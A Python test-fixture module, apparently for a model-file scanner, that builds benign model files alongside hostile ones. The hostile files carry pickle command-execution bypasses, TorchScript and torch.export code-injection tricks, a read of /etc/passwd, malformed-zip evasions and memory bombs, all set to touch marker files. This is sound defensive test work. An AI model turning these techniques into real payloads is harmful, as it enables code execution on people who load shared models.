"""Benign and hostile model files, built by hand as an attacker would (issues 13 and 18).

Every hostile payload only creates a marker file under `markers/`; a test passes when no marker
appears. `build_corpus(root)` returns {name: (path, hostile)}; `benchmarks/filesafety_corpus.py`
runs the same corpus through other scanners.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import warnings
import zipfile
from pathlib import Path

import numpy as np
import torch
from torch import nn

warnings.filterwarnings("ignore", category=FutureWarning)
warnings.filterwarnings("ignore", category=DeprecationWarning)


class _Small(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)
        self.bn = nn.BatchNorm1d(3)

    def forward(self, x):
        y = self.bn(torch.relu(self.fc(x)))
        if y.shape[0] > 1:
            y = y * 2
        return y


def _small():
    torch.manual_seed(0)
    return _Small().eval()


# ----------------------------------------------------------------- pickle payloads

class _Reduce:
    """An object whose unpickling calls `func(*args)`."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _raw(ops: bytes) -> bytes:
    return b"\x80\x04" + ops + b"."


def _str(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _stack_global(module: str, name: str, memo: bool = False) -> bytes:
    if not memo:
        return _str(module) + _str(name) + b"\x93"
    # push the strings, memoize them, pop them, fetch them back from the memo: the memo trick
    return _str(module) + b"\x94" + b"0" + _str(name) + b"\x94" + b"0" + b"h\x00" + b"h\x01" + b"\x93"


def _call1(func: bytes, arg: bytes) -> bytes:
    return func + arg + b"\x85R"


def hostile_pickles(markers: Path) -> dict[str, bytes]:
    """Raw pickles, one per bypass family, each touching markers/<name>."""
    m = lambda name: _str(_touch(markers / name))  # noqa: E731
    code = compile(f"import os; os.system({_touch(markers / 'marshal_function')!r})", "x", "exec")
    import marshal
    code_bytes = marshal.dumps(code)
    return {
        "os_system": pickle.dumps(_Reduce(os.system, _touch(markers / "os_system")), protocol=2),
        "posix_system_protocol0": f"cposix\nsystem\n(V{_touch(markers / 'posix_system_protocol0')}\ntR.".encode(),
        "inst_opcode": f"(V{_touch(markers / 'inst_opcode')}\nios\nsystem\n.".encode(),
        "builtins_exec": _raw(_call1(_stack_global("builtins", "exec"),
                                     _str(f"import os; os.system({_touch(markers / 'builtins_exec')!r})"))),
        "builtins_eval": _raw(_call1(_stack_global("builtins", "eval"),
                                     _str(f"__import__('os').system({_touch(markers / 'builtins_eval')!r})"))),
        "memo_trick": _raw(_call1(_stack_global("os", "system", memo=True), m("memo_trick"))),
        "importlib_chain": _raw(_stack_global("builtins", "getattr")
                                + _call1(_stack_global("importlib", "import_module"), _str("os"))
                                + _str("system") + b"\x86R" + m("importlib_chain") + b"\x85R"),
        "pkgutil_resolve_name": _raw(_call1(_call1(_stack_global("pkgutil", "resolve_name"), _str("os:system")),
                                            m("pkgutil_resolve_name"))),
        "torch_collect_env_run": _raw(_call1(_stack_global("torch.utils.collect_env", "run"), m("torch_collect_env_run"))),
        "marshal_function": _raw(_stack_global("types", "FunctionType")
                                 + _call1(_stack_global("marshal", "loads"), b"\x8e" + struct.pack("<Q", len(code_bytes)) + code_bytes)
                                 + _stack_global("builtins", "globals") + b")R" + b"\x86R" + b")R"),
        "bytearray_bomb": _raw(_call1(_stack_global("builtins", "bytearray"), b"\x8a\x05" + (1_500_000_000).to_bytes(5, "little"))),
        "storage_call_bomb": _raw(_call1(_stack_global("torch", "FloatStorage"), b"\x8a\x05" + (10**11).to_bytes(5, "little"))),
        "unresolved_stack_global": _raw(_call1(_stack_global("builtins", "str"), _str("os")) + _str("system") + b"\x93"
                                        + m("unresolved_stack_global") + b"\x85R"),
        "ext_opcode": _raw(b"\x82\x01" + m("ext_opcode") + b"\x85R"),
        "numpy_object_dtype": _raw(_call1(_stack_global("numpy", "dtype"), _str("O"))),
    }


def _torch_save_bytes(obj, legacy: bool = False, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy, pickle_protocol=protocol)
    return buffer.getvalue()


def _rewrite_zip(src: bytes, replace: dict[str, bytes] | None = None, extra: list[tuple[str, bytes]] = (),
                 compress: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", compress) as zout:
        for info in zin.infolist():
            data = (replace or {}).get(info.filename, zin.read(info.filename))
            zout.writestr(info.filename, data)
        for name, data in extra:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                zout.writestr(name, data)
    return out.getvalue()


def _renamed(src: bytes, old: str, new: str, data: bytes) -> bytes:
    """The archive with member `old` written as `new`, holding `data`, in its place."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(new if info.filename == old else info.filename, data if info.filename == old else zin.read(info))
    return out.getvalue()


def _patch_central(data: bytes, member: str, *, flag: int | None = None, method: int | None = None,
                   name: str | None = None) -> bytes:
    """Edit one member's central and local headers in place (flag bits, method, name of equal length)."""
    raw = bytearray(data)
    key = member.encode()
    for sig, flag_at, method_at, name_len_at, name_at in ((b"PK\x01\x02", 8, 10, 28, 46), (b"PK\x03\x04", 6, 8, 26, 30)):
        start = 0
        while (pos := raw.find(sig, start)) >= 0:
            start = pos + 4
            length = struct.unpack_from("<H", raw, pos + name_len_at)[0]
            if bytes(raw[pos + name_at:pos + name_at + length]) != key:
                continue
            if flag is not None:
                struct.pack_into("<H", raw, pos + flag_at, flag)
            if method is not None:
                struct.pack_into("<H", raw, pos + method_at, method)
            if name is not None:
                raw[pos + name_at:pos + name_at + length] = name.encode()
    return bytes(raw)


def _patch_size(data: bytes, member: str, size: int) -> bytes:
    """Declare a smaller uncompressed size for `member` (central and local headers): a size lie."""
    raw = bytearray(data)
    key = member.encode()
    for sig, size_at, name_len_at, name_at in ((b"PK\x01\x02", 24, 28, 46), (b"PK\x03\x04", 22, 26, 30)):
        start = 0
        while (pos := raw.find(sig, start)) >= 0:
            start = pos + 4
            length = struct.unpack_from("<H", raw, pos + name_len_at)[0]
            if bytes(raw[pos + name_at:pos + name_at + length]) == key:
                struct.pack_into("<I", raw, pos + size_at, size)
    return bytes(raw)


def _overlapping_entry(data: bytes, member: str, alias: str) -> bytes:
    """Add a second directory entry `alias` (same name length) pointing at `member`'s local header."""
    raw = bytearray(data)
    eocd = raw.rfind(b"PK\x05\x06")
    count = struct.unpack_from("<H", raw, eocd + 10)[0]
    cd_size, cd_offset = struct.unpack_from("<II", raw, eocd + 12)
    pos = raw.find(b"PK\x01\x02", cd_offset)
    while pos >= 0:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", raw, pos + 28)
        if bytes(raw[pos + 46:pos + 46 + name_len]) == member.encode():
            record = bytearray(raw[pos:pos + 46 + name_len + extra_len + comment_len])
            record[46:46 + name_len] = alias.encode()
            break
        pos = raw.find(b"PK\x01\x02", pos + 4)
    out = raw[:eocd] + record + raw[eocd:]
    end = len(raw[:eocd]) + len(record)
    struct.pack_into("<HH", out, end + 8, count + 1, count + 1)
    struct.pack_into("<I", out, end + 12, cd_size + len(record))
    return bytes(out)


# ----------------------------------------------------------------- TorchScript payloads

class _SetstateFromFile(nn.Module):
    """__setstate__ creates (or overwrites) a file with torch.from_file(path, shared=True, n)."""

    def __init__(self, marker: str):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(4, 3))
        self.marker = marker

    def forward(self, x):
        return x @ self.weight

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return (self.weight, self.marker, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.marker = state[1]
        self.training = state[2]
        probe = torch.from_file(self.marker, True, 12)  # used below, so the compiler keeps the call
        self.weight = state[0] + probe.view(4, 3) * 0.0


class _ForwardSaves(nn.Module):
    def __init__(self, marker: str):
        super().__init__()
        self.fc = nn.Linear(4, 3)
        self.marker = marker

    def forward(self, x):
        torch.save(x, self.marker)
        return self.fc(x)


class _HookedLinear(nn.Module):
    """A module with a forward pre-hook: hooks run on every call but are not among its methods."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)

    def forward(self, x):
        return self.fc(x)


def _hook_prints(module: nn.Module, inputs: tuple[torch.Tensor]) -> None:
    print("HOOK")


def _hook_saves_bytes(marker: str) -> bytes:
    """A scripted pre-hook rewritten, as an attacker edits the archive's code, to call
    `getattr(torch, "save")`: TorchScript compiles that to aten::save with no `torch.save` in the text."""
    module = _HookedLinear()
    module.register_forward_pre_hook(_hook_prints)
    data = _script_bytes(module)
    code = next(n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.endswith(".py")
                and b'print("HOOK")' in _read(data, n))
    payload = f'getattr(torch, "save")(inputs, "{marker}")'.encode()
    return _rewrite_zip(data, {code: _read(data, code).replace(b'print("HOOK")', payload)})


class _ForwardReadsPasswd(nn.Module):
    def __init__(self, marker: str):
        super().__init__()
        self.fc = nn.Linear(4, 3)
        self.marker = marker

    def forward(self, x):
        secret = torch.from_file("/etc/passwd", False, 16, dtype=torch.uint8)
        torch.save(secret, self.marker)
        return self.fc(x)


def _script_bytes(module) -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(module), buffer)
    return buffer.getvalue()


# ----------------------------------------------------------------- torch.export payloads

def _export_bytes(model=None, dynamic: bool = False) -> bytes:
    model = model or _small()
    example = (torch.randn(2, 4),)
    shapes = ({0: torch.export.Dim("batch", min=2, max=64)},) if dynamic else None
    program = torch.export.export(model, example, dynamic_shapes=shapes)
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    return buffer.getvalue()


class _WithMode(nn.Module):
    """A model with a string input: torch.export stores its value as a constant ("as_string")."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x, mode: str):
        return self.fc(x)


def _pt2_string_input(marker: str) -> bytes:
    """.module() pastes a string input's value into guard code inside '...': a quote breaks out."""
    program = torch.export.export(_WithMode(), (torch.randn(2, 4), "fast"))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    name = _member(buffer.getvalue(), "models/model.json")
    text = _read(buffer.getvalue(), name).decode().replace('"fast"', json.dumps(f"fast' and open({marker!r}, 'w') and '"))
    return _rewrite_zip(buffer.getvalue(), {name: text.encode()})


def _member(data: bytes, suffix: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return next(n for n in archive.namelist() if n.endswith(suffix))


def _read(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _pt2_use_pickle(base: bytes, payload) -> bytes:
    config_name = _member(base, "data/weights/model_weights_config.json")
    config = json.loads(_read(base, config_name))
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    weight = config_name.rsplit("/", 1)[0] + "/" + first["path_name"]
    return _rewrite_zip(base, {config_name: json.dumps(config).encode(), weight: _torch_save_bytes(payload)})


class _StealthTensor:
    """Runs a command, then rebuilds the real tensor: the load goes on cleanly (issue 13's stealthy variant)."""

    def __init__(self, command: str, tensor):
        self.command, self.tensor = command, tensor

    def __reduce__(self):
        return eval, (f"__import__('os').system({self.command!r}) * 0 or __import__('torch').tensor({self.tensor.tolist()!r})",)


def _pt2_model_json(base: bytes, edit) -> bytes:
    name = _member(base, "models/model.json")
    program = json.loads(_read(base, name))
    edit(program)
    return _rewrite_zip(base, {name: json.dumps(program).encode()})


def _pt2_renamed_parameter(base: bytes, old: str, new: str) -> bytes:
    """`old`.weight and `old`.bias renamed in the program and the weights config (as JSON text)."""
    escaped = json.dumps(new)[1:-1]
    replace = {}
    for suffix in ("models/model.json", "data/weights/model_weights_config.json"):
        name = _member(base, suffix)
        text = _read(base, name).decode()
        for part in ("weight", "bias"):
            text = text.replace(f'"{old}.{part}"', f'"{escaped}.{part}"')
        replace[name] = text.encode()
    return _rewrite_zip(base, replace)


def _pt2_extra_member(base: bytes, rel: str, data: bytes, config_entry: dict | None = None) -> bytes:
    prefix = _member(base, "archive_format").split("/")[0]
    replace = {}
    if config_entry is not None:
        config_name = f"{prefix}/data/constants/model_constants_config.json"
        config = json.loads(_read(base, config_name))
        config["config"].update(config_entry)
        replace[config_name] = json.dumps(config).encode()
    return _rewrite_zip(base, replace, extra=[(f"{prefix}/{rel}", data)])


# ----------------------------------------------------------------- safetensors / onnx / numpy

def _safetensors(header: dict, data: bytes, header_len: int | None = None) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text) if header_len is None else header_len) + text + data


def _onnx_bytes(model=None) -> bytes:
    buffer = io.BytesIO()
    torch.onnx.export(model or _small(), (torch.randn(2, 4),), buffer, dynamo=False)
    return buffer.getvalue()


def _onnx_edit(edit) -> bytes:
    import onnx

    model = onnx.load_from_string(_onnx_bytes())
    edit(model)
    return model.SerializeToString()


def _external(location: str):
    def edit(model):
        from onnx import TensorProto

        tensor = model.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", location
    return edit


def _custom_domain(model):
    model.graph.node[0].domain = "com.attacker"
    entry = model.opset_import.add()
    entry.domain, entry.version = "com.attacker", 1


def _huge_dims(model):
    tensor = model.graph.initializer[0]
    del tensor.dims[:]
    tensor.dims.extend([1_000_000, 1_000_000])


def _computed_bomb(op: str) -> bytes:
    """A graph of a few hundred bytes whose first forward pass asks for 2^34 floats: the shape is
    a constant the graph builds (Concat of a Constant), so no stored tensor is large."""
    from onnx import TensorProto, helper, numpy_helper

    side = numpy_helper.from_array(np.array([1 << 17], dtype=np.int64))
    nodes = [helper.make_node("Constant", [], ["side"], value=side),
             helper.make_node("Concat", ["side", "side"], ["shape"], axis=0)]
    if op == "ConstantOfShape":
        nodes.append(helper.make_node(op, ["shape"], ["big"], value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0])))
    elif op in ("AbsConstantOfShape", "SumConstantOfShape", "MatMulConstantOfShape"):
        # shape arithmetic ONNX's shape inference does not propagate (Abs, Sum), or that
        # poisonguard does not evaluate either (MatMul by an identity)
        inner = op[:-len("ConstantOfShape")]
        extra = [] if inner != "MatMul" else [helper.make_node("Constant", [], ["eye"], value=numpy_helper.from_array(
            np.eye(2, dtype=np.int64)))]
        args = {"Abs": ["shape"], "Sum": ["shape", "shape"], "MatMul": ["shape", "eye"]}[inner]
        nodes += extra + [helper.make_node(inner, args, ["computed"]),
                          helper.make_node("ConstantOfShape", ["computed"], ["big"],
                                           value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]))]
    else:  # Expand: broadcast the input itself
        nodes.append(helper.make_node("ReduceSum", ["x"], ["one"], keepdims=1))
        nodes.append(helper.make_node(op, ["one", "shape"], ["big"]))
    nodes += [helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
              helper.make_node("Add", ["x", "total"], ["y"])]
    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 4])])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString()


def _function_chain(depth: int) -> bytes:
    """Local functions f0 .. f(depth-1), each calling the next twice: ONNX's shape inference
    expands every call, 2^depth of them (30 levels: hours in the check itself)."""
    from onnx import TensorProto, helper

    functions = []
    for i in range(depth):
        if i == depth - 1:
            body = [helper.make_node("Identity", ["a"], ["b"])]
        else:
            body = [helper.make_node(f"f{i + 1}", ["a"], ["t"], domain="local"),
                    helper.make_node(f"f{i + 1}", ["t"], ["b"], domain="local")]
        functions.append(helper.make_function("local", f"f{i}", ["a"], ["b"], body,
                                              [helper.make_opsetid("", 13), helper.make_opsetid("local", 1)]))
    graph = helper.make_graph([helper.make_node("f0", ["x"], ["y"], domain="local")], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 4])])
    return helper.make_model(graph, functions=functions, opset_imports=[helper.make_opsetid("", 13),
                                                                         helper.make_opsetid("local", 1)]).SerializeToString()


def _npy_bytes(array, allow_pickle: bool = False) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=allow_pickle)
    return buffer.getvalue()


def _npz_bytes(compressed: bool = False, **arrays) -> bytes:
    buffer = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buffer, **arrays)
    return buffer.getvalue()


def _zip_with_zero_member(base: bytes | None, member: str | None, head: bytes, size: int) -> bytes:
    """`base`'s members (or none) with `member` replaced by `head` + `size` zero bytes, deflated (~1000:1)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zout:
        if base is not None:
            with zipfile.ZipFile(io.BytesIO(base)) as zin:
                for info in zin.infolist():
                    if info.filename != member:
                        zout.writestr(info.filename, zin.read(info.filename))
        target = zipfile.ZipInfo(member)
        target.compress_type = zipfile.ZIP_DEFLATED
        with zout.open(target, "w", force_zip64=True) as dst:
            dst.write(head)
            block = bytes(1 << 22)
            for _ in range(size >> 22):
                dst.write(block)
    return out.getvalue()


def _deflate_bomb_torch(size: int) -> bytes:
    """A torch.save archive whose storage record is `size` zero bytes, deflated (issue 13: 1.6 MB -> 1.6 GB)."""
    base = _torch_save_bytes({"w": torch.zeros(4)})
    return _zip_with_zero_member(base, _member(base, "data/0"), b"", size)


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    text = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    text += " " * (63 - (len(text) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


# ----------------------------------------------------------------- the corpus

def benign_files() -> dict[str, bytes]:
    from safetensors.torch import save as save_safetensors

    model = _small()
    state = model.state_dict()
    traced = torch.jit.trace(model, torch.randn(2, 4))
    buffer = io.BytesIO()
    torch.jit.save(traced, buffer)
    conv = nn.Sequential(nn.Conv2d(1, 4, 3), nn.ReLU(), nn.MaxPool2d(2), nn.Flatten(), nn.Linear(4 * 13 * 13, 10)).eval()
    conv_traced = io.BytesIO()
    torch.jit.save(torch.jit.trace(conv, torch.randn(1, 1, 28, 28)), conv_traced)
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(2, 4)).sum().backward()
    optimizer.step()
    lightning = {"epoch": 3, "global_step": 120, "pytorch-lightning_version": "2.4.0", "state_dict": state,
                 "optimizer_states": [optimizer.state_dict()], "lr_schedulers": [], "callbacks": {"ModelCheckpoint": {"best_model_score": torch.tensor(0.9)}},
                 "hyper_parameters": {"lr": 0.1, "layers": [4, 3], "name": "small", "flag": True, "none": None}}
    hf = {f"bert.encoder.layer.{i}.attention.self.query.weight": torch.randn(8, 8) for i in range(2)}
    hf["classifier.bias"] = torch.zeros(2)
    mixed = {"half": torch.randn(3).half(), "bf16": torch.randn(3).bfloat16(), "long": torch.arange(5),
             "bool": torch.tensor([True, False]), "int8": torch.tensor([1, -1], dtype=torch.int8)}
    exotic = {"u16": torch.zeros(3, dtype=torch.uint16), "f8": torch.zeros(3).to(torch.float8_e4m3fn),
              "q": torch.quantize_per_tensor(torch.rand(3), 0.1, 0, torch.quint8), "meta": torch.zeros(2, device="meta"),
              "param": nn.Parameter(torch.zeros(2)), "c64": torch.zeros(2, dtype=torch.complex64)}
    return {
        "state_dict.pt": _torch_save_bytes(state),
        "exotic_dtypes.pt": _torch_save_bytes(exotic),
        "state_dict_legacy.pt": _torch_save_bytes(state, legacy=True),
        "lightning.ckpt": _torch_save_bytes(lightning),
        "protocol5_numpy.pt": _torch_save_bytes({"model": state, "best": np.float32(0.5), "hist": np.arange(4.0)}, protocol=5),
        "checkpoint_numpy.pth": _torch_save_bytes({"model": state, "best": np.float64(0.5), "hist": np.arange(4.0)}),
        "pytorch_model.bin": _torch_save_bytes(hf),
        "pytorch_model_legacy.bin": _torch_save_bytes(hf, legacy=True),
        "mixed_dtypes.pt": _torch_save_bytes(mixed),
        "tensor.pt": _torch_save_bytes(torch.randn(3, 3)),
        "conv_state.pt": _torch_save_bytes(conv.state_dict()),
        "model.safetensors": save_safetensors({k: v.contiguous() for k, v in state.items()}),
        "meta.safetensors": save_safetensors(hf, metadata={"format": "pt"}),
        "scripted.pt": _script_bytes(_small()),
        "scripted_conv.pt": _script_bytes(conv),
        "traced.pt": buffer.getvalue(),
        "traced_conv.pt": conv_traced.getvalue(),
        "exported.pt2": _export_bytes(),
        "exported_dynamic.pt2": _export_bytes(dynamic=True),
        "exported_conv.pt2": _export_bytes(nn.Sequential(nn.Linear(4, 8), nn.GELU(), nn.Linear(8, 2)).eval()),
        "model.onnx": _onnx_bytes(),
        "conv.onnx": _onnx_bytes(nn.Sequential(nn.Linear(4, 8), nn.Tanh(), nn.Linear(8, 2)).eval()),
        "arrays.npz": _npz_bytes(x=np.zeros((4, 4), np.float32), y=np.arange(4)),
        "compressed.npz": _npz_bytes(True, x=np.random.default_rng(0).random((16, 16))),
        "float.npy": _npy_bytes(np.ones((3, 5), np.float32)),
        "labels.npy": _npy_bytes(np.arange(10, dtype=np.int64)),
        # the format is what the bytes say: a TorchScript archive under a safetensors name is TorchScript
        "traced_named.safetensors": buffer.getvalue(),
    }


BENIGN_FORMATS = {"state_dict.pt": "torch-zip", "state_dict_legacy.pt": "legacy-torch", "model.safetensors": "safetensors",
                  "scripted.pt": "torchscript", "traced.pt": "torchscript", "exported.pt2": "torch.export",
                  "model.onnx": "onnx", "arrays.npz": "npz", "float.npy": "npy", "traced_named.safetensors": "torchscript"}


def hostile_files(markers: Path) -> dict[str, bytes]:
    files: dict[str, bytes] = {f"{name}.pkl": data for name, data in hostile_pickles(markers).items()}
    state = _small().state_dict()
    touch = lambda name: _touch(markers / name)  # noqa: E731
    # torch.save archives and legacy files carrying a payload
    files["payload_in_state_dict.pt"] = _torch_save_bytes({"w": torch.zeros(2), "x": _Reduce(os.system, touch("payload_in_state_dict"))})
    files["payload_legacy.pt"] = _torch_save_bytes({"x": _Reduce(os.system, touch("payload_legacy"))}, legacy=True)
    # legacy format: the payload in the third pickle (system info), which torch.load unpickles before the object
    legacy_magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    files["legacy_sys_info.pt"] = (legacy_magic + pickle.dumps(1001, protocol=2)
                                   + pickle.dumps(_Reduce(os.system, touch("legacy_sys_info")), protocol=2)
                                   + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2))
    files["payload_named.safetensors"] = _torch_save_bytes({"x": _Reduce(os.system, touch("payload_named"))})
    sd = _torch_save_bytes(state)
    data_pkl = _member(sd, "data.pkl")
    record = _member(sd, "data/0")
    bad_crc = bytearray(sd)
    pos = bytes(bad_crc).find(_read(sd, record)[:8], bytes(bad_crc).find(record.encode()))
    bad_crc[pos] ^= 0xFF
    files["bad_crc.pt"] = bytes(bad_crc)
    files["encrypted_flag.pt"] = _patch_central(sd, record, flag=0x0809)
    files["compression_99.pt"] = _patch_central(sd, record, method=99)
    files["size_lie.pt"] = _patch_size(sd, record, 8)
    files["overlapping_entries.pt"] = _overlapping_entry(_rewrite_zip(sd), record, record[:-1] + "9")  # no zip64 records
    prefix = data_pkl.split("/")[0]
    for label, name in (("dotdot", f"{prefix}/../../evil"), ("absolute", "/tmp/x/evil.pkl"), ("dotslash", f"{prefix}/./data.pkl"),
                        ("doubleslash", f"{prefix}//data.pkl")):
        files[f"name_{label}.pt"] = _rewrite_zip(sd, extra=[(name, b"x")])
    evil_pkl = pickle.dumps(_Reduce(os.system, touch("duplicate_name")), protocol=2)
    files["duplicate_name.pt"] = _rewrite_zip(sd, extra=[(data_pkl, evil_pkl)])
    # torch's zip reader (miniz) finds members ignoring case; Python's zipfile does not
    files["case_duplicate_pickle.pt"] = _rewrite_zip(sd, extra=[(data_pkl[:-3] + "PKL", evil_pkl)])
    files["polyglot_prefix.pt"] = pickle.dumps(_Reduce(os.system, touch("polyglot_prefix")), protocol=2) + sd
    # a storage that claims far more bytes than its record holds (allocation before the read fails)
    files["storage_claim.pt"] = _rewrite_zip(sd, {data_pkl: _read(sd, data_pkl).replace(b"K\x0c", b"J\x00\xe4\x0bT", 1)})
    files["deflate_bomb.pt"] = _deflate_bomb_torch(1600 << 20)
    # one stored element shown as 2**29 through a zero stride (torch.expand): loading converts it to 2 GiB
    files["broadcast_bomb.pt"] = _torch_save_bytes({**state, "extra": torch.zeros(1, dtype=torch.float16).expand(1 << 29)})
    files["broadcast_bomb_legacy.pt"] = _torch_save_bytes({"extra": torch.zeros(1).expand(1 << 40)}, legacy=True)
    # TorchScript
    files["setstate_from_file.pt"] = _script_bytes(_SetstateFromFile(str(markers / "setstate_from_file")))
    files["setstate_named.safetensors"] = _script_bytes(_SetstateFromFile(str(markers / "setstate_named")))
    files["forward_saves.pt"] = _script_bytes(_ForwardSaves(str(markers / "forward_saves")))
    files["forward_reads_passwd.pt"] = _script_bytes(_ForwardReadsPasswd(str(markers / "forward_reads_passwd")))
    files["hook_getattr_saves.pt"] = _hook_saves_bytes(str(markers / "hook_getattr_saves"))
    scripted = _script_bytes(_small())
    ts_pkl = _member(scripted, "/data.pkl")
    files["torchscript_foreign_global.pt"] = _rewrite_zip(scripted, {ts_pkl: pickle.dumps(_Reduce(os.system, touch("torchscript_foreign_global")), protocol=2)})
    code_name = next(n for n in zipfile.ZipFile(io.BytesIO(scripted)).namelist() if n.endswith(".py") and b"torch.relu" in _read(scripted, n))
    files["torchscript_custom_op.pt"] = _rewrite_zip(scripted, {code_name: _read(scripted, code_name).replace(b"torch.relu(", b"ops.attacker.relu(")})
    files["torchscript_code_upper_case.pt"] = _renamed(  # code/X.py, checked; CODE/X.py would be compiled unread
        scripted, code_name, code_name.replace("/code/", "/CODE/"),
        _read(scripted, code_name).replace(b"torch.relu(", b"ops.attacker.relu("))
    # torch.export
    base = _export_bytes()
    files["pt2_use_pickle.pt2"] = _pt2_use_pickle(base, _Reduce(os.system, touch("pt2_use_pickle")))
    files["pt2_stealth.pt2"] = _pt2_use_pickle(base, _StealthTensor(touch("pt2_stealth"), state["fc.weight"]))
    inputs_name = _member(base, "data/sample_inputs/model.pt")
    files["pt2_sample_inputs.pt2"] = _rewrite_zip(base, {inputs_name: _torch_save_bytes(_Reduce(os.system, touch("pt2_sample_inputs")))})
    files["pt2_sample_inputs_upper_case.pt2"] = _renamed(  # torch.export.load reads model.pt, and gets model.PT
        base, inputs_name, inputs_name[:-3] + ".PT", _torch_save_bytes(_Reduce(os.system, touch("pt2_sample_inputs_upper"))))
    files["pt2_opaque_constant.pt2"] = _pt2_extra_member(
        base, "data/constants/opaque_obj_0", pickle.dumps(_Reduce(os.system, touch("pt2_opaque_constant")), protocol=2),
        {"evil": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}})
    files["pt2_custom_obj.pt2"] = _pt2_extra_member(
        base, "data/constants/custom_obj_0", b"\x80\x02N.",
        {"obj": {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}})
    files["pt2_guards_code.pt2"] = _pt2_model_json(base, lambda p: p.__setitem__(
        "guards_code", [f"__import__('os').system({touch('pt2_guards_code')!r}) == 0"]))
    # a bytes literal: its quotes survive ast.unparse and close the string torch pastes a guard into
    escape = "exec(bytes(" + repr(tuple(f"open({touch('pt2_guards_bytes')!r}, 'w')".encode())) + "))"
    files["pt2_string_input.pt2"] = _pt2_string_input(str(markers / "pt2_string_input"))
    files["pt2_guards_bytes.pt2"] = _pt2_model_json(base, lambda p: p.__setitem__(
        "guards_code", [f"True or b'\"+{escape}+\"'"]))
    dynamic = _export_bytes(dynamic=True)

    def sympy_payload(node):  # every symbolic size of the dynamic program becomes the payload
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "expr_str":
                    node[key] = f"__import__('os').system({touch('pt2_sympy_expr')!r})"
                else:
                    sympy_payload(value)
        elif isinstance(node, list):
            for value in node:
                sympy_payload(value)
    files["pt2_sympy_expr.pt2"] = _pt2_model_json(dynamic, sympy_payload)

    def torch_save_target(program):
        program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.save"
    files["pt2_graph_target.pt2"] = _pt2_model_json(base, torch_save_target)
    files["pt2_aotinductor.pt2"] = _pt2_extra_member(base, "data/aotinductor/model/model.so", b"\x7fELF")
    # .module() pastes a forward argument name into `def forward(self, NAME)` and the tree
    # flattening after it: a triple quote opened in the first closes in the second, and the default runs
    arg_payload = "x=''' + str(__import__('os').system(" + repr(touch("pt2_forward_arg_name")) + "))):\n    return ((["

    def forward_arg_names(program):
        program["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = [arg_payload]
    files["pt2_forward_arg_name.pt2"] = _pt2_model_json(base, forward_arg_names)
    # ... and each segment of a parameter name that is not an identifier into getattr(self, "...")
    files["pt2_parameter_name.pt2"] = _pt2_renamed_parameter(
        base, "fc", '1"+str(getattr(__import__("os"),"system")(' + json.dumps(touch("pt2_parameter_name")) + '))+"')
    # safetensors headers that lie
    good = {"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
    files["st_offsets_past_end.safetensors"] = _safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 1 << 40]}}, bytes(16))
    files["st_overlap.safetensors"] = _safetensors({**good, "v": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}, bytes(16))
